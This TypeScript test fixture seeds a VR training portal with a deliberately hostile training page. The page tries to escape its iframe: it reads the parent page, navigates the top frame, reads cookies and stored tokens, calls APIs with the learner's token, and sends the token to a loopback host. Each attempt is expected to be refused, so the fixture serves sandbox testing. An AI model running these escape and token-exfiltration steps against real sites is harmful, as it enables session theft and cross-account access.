import type { Clock } from '@vr/server/clock';
import type { Database } from '@vr/server/db/database';
import { builders } from '@vr/server/demo/builders';
import type { Storage } from '@vr/server/storage/storage';
import { PASSWORD } from './people.ts';

/** A learner whose company has only one training, which tries to get out of its frame. */
export const HOSTILE = { email: 'victim@hostile.example', password: PASSWORD, title: 'A hostile build' };

/** The names of the attempts that the hostile page makes to get out of its frame. Each must result in 'refused'. */
export const ATTEMPTS = [
  'read the portal page',
  'navigate the portal away',
  'open a window',
  'read the portal session',
  'read its own cookie',
  'call the portal as the person',
  'call the portal with its own token',
  'report on another training',
  "read another training's files",
  'install a service worker',
  'send data elsewhere',
] as const;

const PAGE = `<!doctype html><html lang="en"><title>hostile</title><body><pre id="result"></pre><script>
const given = new URLSearchParams(location.hash.slice(1));
const api = given.get('api'), token = given.get('userToken'), trainingId = Number(given.get('trainingId'));
const refuseUnless = (works) => { if (!works) throw new Error('refused'); };
const bearer = { authorization: 'Bearer ' + token };
const attempts = {
  'read the portal page': () => parent.document.body.innerHTML,
  'navigate the portal away': () => { top.location.href = 'about:blank'; },
  'open a window': () => refuseUnless(open('about:blank')),
  'read the portal session': () => refuseUnless(localStorage.getItem('token') ?? sessionStorage.getItem('token')),
  'read its own cookie': () => refuseUnless(document.cookie),
  'call the portal as the person': () => fetch(api + '/api/v1/users/profile', { credentials: 'include' }),
  'call the portal with its own token': () => fetch(api + '/api/v1/users/profile', { headers: bearer }),
  'report on another training': async () => {
    const answer = await fetch(api + '/api/v1/trainings/' + (trainingId - 1) + '/sessions', {
      method: 'POST', headers: { ...bearer, 'content-type': 'application/json' },
      body: JSON.stringify({ id: crypto.randomUUID(), fileType: 'WEB_GL', startedAt: new Date().toISOString(),
        sentAt: new Date().toISOString(), seconds: 1, finished: false, steps: [] }) });
    refuseUnless(answer.ok);
  },
  "read another training's files": async () => refuseUnless((await fetch('/content/1/1/index.html')).ok),
  'install a service worker': () => navigator.serviceWorker.register('index.html'),
  'send data elsewhere': () => fetch('http://127.0.0.1:9/?' + token, { mode: 'no-cors' }),
};
(async () => {
  const result = {};
  for (const [name, attempt] of Object.entries(attempts))
    try { await attempt(); result[name] = 'succeeded'; } catch { result[name] = 'refused'; }
  document.getElementById('result').textContent = JSON.stringify(result);
})();
</script></body></html>`;

/** Adds the hostile training, its company and its learner to the portal. */
export async function addHostileTraining(db: Database, clock: Clock, storage: Storage): Promise<void> {
  const build = builders(db, clock);
  const client = await build.client({ name: 'Hostile' });
  await build.person({ clientId: client.id, email: HOSTILE.email, password: HOSTILE.password });
  const text = { title: HOSTILE.title, briefDescription: 'Tries to get out.', fullDescription: '', goals: [] };
  const training = await build.training({ clientId: client.id, texts: { en: text } });
  const file = await build.contentFile({
    trainingId: training.id,
    fileType: 'WEB_GL',
    entry: 'index.html',
    fileSize: PAGE.length,
  });
  await storage.put(`${file.storagePrefix}/index.html`, Buffer.from(PAGE));
}
